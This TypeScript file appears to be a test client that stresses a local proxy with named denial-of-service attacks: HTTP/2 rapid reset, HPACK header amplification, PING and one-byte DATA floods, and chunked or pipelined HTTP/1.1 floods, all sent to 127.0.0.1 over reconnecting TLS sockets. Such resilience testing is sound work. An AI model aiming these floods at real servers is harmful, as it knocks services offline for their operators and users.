import { connect, type TLSSocket } from "node:tls";
import {
  ACK,
  END_HEADERS,
  END_STREAM,
  Frame,
  frame,
  FrameSplitter,
  hpack,
  hpackString,
  PREFACE,
  type ReceivedFrame,
} from "../../testkit/http2RawClient.js";
import type { Attack } from "../lib/attacks.js";

/**
 * A client that gives a proxy as much work as it can, on connections that it opens again when the proxy ends them. Arguments:
 * attack, port.
 */
const [attack, portText] = process.argv.slice(2) as [Attack, string];
const CONNECTIONS = 4;
const AGAIN_MS = 20;

/** What is sent on a connection, as fast as it is taken. @returns undefined while responses are waited for */
type Source = () => Buffer | undefined;

const head = (line: string, fields = ""): string => `${line} HTTP/1.1\r\nHost: 127.0.0.1\r\n${fields}\r\n`;
const CHUNKS = Buffer.from("1\r\nx\r\n".repeat(10_000));

function http1(first: string, rest: Buffer | undefined): (socket: TLSSocket) => Source {
  return (socket) => {
    socket.on("data", () => undefined);
    let begun = false;
    return () => {
      if (begun) return rest;
      begun = true;
      return Buffer.from(first);
    };
  };
}

/** As many requests at a time, and the next ones when all of them are over. */
function pipelined(count: number): (socket: TLSSocket) => Source {
  const batch = Buffer.from(head("GET /sync/small").repeat(count));
  return (socket) => {
    let asked = 0;
    socket.on("data", (bytes: Buffer) => {
      const text = bytes.toString("latin1");
      // A head that came in two pieces is missed: a few of them begin the next batch early.
      asked -= text.split("HTTP/1.1 ").length - 1;
      if (asked <= count / 10) socket.emit("drain");
    });
    return () => {
      if (asked > count / 10) return undefined;
      asked += count;
      return batch;
    };
  };
}

class Http2 {
  private stream = -1;
  private open = 0;
  private begun = false;

  constructor(
    private readonly socket: TLSSocket,
    /** Frames of one step: a request, or what follows one. */
    private readonly step: (next: () => number) => Buffer[],
    private readonly streamsMax = Infinity,
  ) {
    const splitter = new FrameSplitter();
    socket.on("data", (bytes: Buffer) => {
      for (const received of splitter.frames(bytes)) this.take(received);
      socket.emit("drain");
    });
  }

  readonly source: Source = () => {
    const frames: Buffer[] = [];
    if (!this.begun) {
      this.begun = true;
      const window = Buffer.alloc(4);
      window.writeUInt32BE(0x7fff_ffff - 65_535);
      frames.push(PREFACE, frame(Frame.SETTINGS, 0, 0, ""), frame(Frame.WINDOW_UPDATE, 0, 0, window));
    }
    while (this.open < this.streamsMax && frames.length < 400) frames.push(...this.step(this.next));
    return frames.length === 0 ? undefined : Buffer.concat(frames);
  };

  private readonly next = (): number => {
    this.open++;
    return (this.stream += 2);
  };

  private take({ type, flags }: ReceivedFrame): void {
    if (type === Frame.SETTINGS && (flags & ACK) === 0) this.socket.write(frame(Frame.SETTINGS, ACK, 0, ""));
    if (type === Frame.GOAWAY) this.socket.destroy();
    const ends = (type === Frame.HEADERS || type === Frame.DATA) && (flags & END_STREAM) !== 0;
    if (ends || type === Frame.RST_STREAM) this.open--;
  }
}

const requestOf = (method: string, path = "/sync/small"): Buffer =>
  hpack([
    [":method", method],
    [":scheme", "https"],
    [":authority", "127.0.0.1"],
    [":path", path],
  ]);
const http2 =
  (step: (first: boolean, next: () => number) => Buffer[], streamsMax?: number) =>
  (socket: TLSSocket): Source => {
    let first = true;
    const one = new Http2(
      socket,
      (next) => {
        const frames = step(first, next);
        first = false;
        return frames;
      },
      streamsMax,
    );
    return one.source;
  };

const requests = (block: (first: boolean) => Buffer, streamsMax: number) =>
  http2((first, next) => [frame(Frame.HEADERS, END_HEADERS | END_STREAM, next(), block(first))], streamsMax);

/** An entry of HPACK's dynamic table, which each further request names seven times for a byte each (RFC 7541, 6.1). */
const ENTRY = Buffer.concat([
  Buffer.from([0x40]),
  hpackString("accept"),
  hpackString("a;q=0.1,".repeat(487)),
]);
const NAMED = Buffer.alloc(7, 0x80 | 62);
const GET = requestOf("GET");

/** Uploads to the WebDAV daemon in frames of a byte, on one stream. */
const dataFrames = http2((first, next) => {
  if (first) return [frame(Frame.HEADERS, END_HEADERS, next(), requestOf("PUT", "/syncdav/attack"))];
  return [DATA];
});
const DATA = Buffer.concat(new Array<Buffer>(1_000).fill(frame(Frame.DATA, 0, 1, "x")));
const PINGS = Buffer.concat(new Array<Buffer>(100).fill(frame(Frame.PING, 0, 0, "12345678")));
const CANCEL = Buffer.from([0, 0, 0, 8]);

const SOURCES: Record<Attack, ((socket: TLSSocket) => Source) | undefined> = {
  none: undefined,
  "chunks-up": http1(head("PUT /syncdav/attack", "Transfer-Encoding: chunked\r\n"), CHUNKS),
  "chunks-down": http1(head("GET /synchttp/chunks"), undefined),
  interim: http1(head("GET /synchttp/interim"), undefined),
  pipelined: pipelined(1_000),
  "heads-http2": requests(() => requestOf("HEAD"), 100),
  "long-heads-http2": requests((first) => Buffer.concat([GET, first ? ENTRY : NAMED]), 100),
  "data-http2": dataFrames,
  "resets-http2": http2((_, next) => {
    const stream = next();
    return [
      frame(Frame.HEADERS, END_HEADERS | END_STREAM, stream, GET),
      frame(Frame.RST_STREAM, 0, stream, CANCEL),
    ];
  }),
  "pings-http2": http2(() => [PINGS]),
};

function attackOnce(begin: (socket: TLSSocket) => Source): void {
  const socket = connect({
    port: Number(portText),
    host: "127.0.0.1",
    rejectUnauthorized: false,
    ALPNProtocols: [attack.endsWith("http2") ? "h2" : "http/1.1"],
  });
  socket.on("error", () => undefined);
  socket.on("close", () => setTimeout(attackOnce, AGAIN_MS, begin));
  socket.once("secureConnect", () => {
    const source = begin(socket);
    const write = (): void => {
      for (let bytes; !socket.destroyed && !socket.writableNeedDrain && (bytes = source()) !== undefined;)
        if (!socket.write(bytes)) return;
    };
    socket.on("drain", write);
    write();
  });
}

const begin = SOURCES[attack];
console.log(JSON.stringify({ connections: begin === undefined ? 0 : CONNECTIONS }));
if (begin !== undefined) for (let i = 0; i < CONNECTIONS; i++) attackOnce(begin);
else setInterval(() => undefined, 60_000);
